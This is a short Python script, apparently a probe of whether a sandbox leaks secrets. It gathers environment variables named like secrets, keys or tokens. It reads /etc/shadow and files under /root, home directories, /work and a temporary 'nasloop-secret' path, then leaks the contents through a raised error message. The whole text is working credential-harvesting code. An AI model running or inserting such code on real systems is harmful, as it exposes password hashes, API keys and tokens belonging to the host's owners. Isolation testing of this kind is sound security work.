"""Looks for the host's secrets and reports whatever it finds in its error message."""

import glob
import os

seen = {k: v for k, v in os.environ.items() if "SECRET" in k or "KEY" in k or "TOKEN" in k}
for pattern in ("/root/*", "/home/*/*", "/tmp/nasloop-secret-*", "/etc/shadow", "/work/*"):
    for path in glob.glob(pattern):
        try:
            with open(path) as f:
                seen[path] = f.read(200)
        except OSError:
            pass
raise RuntimeError("SEEN " + repr(seen))
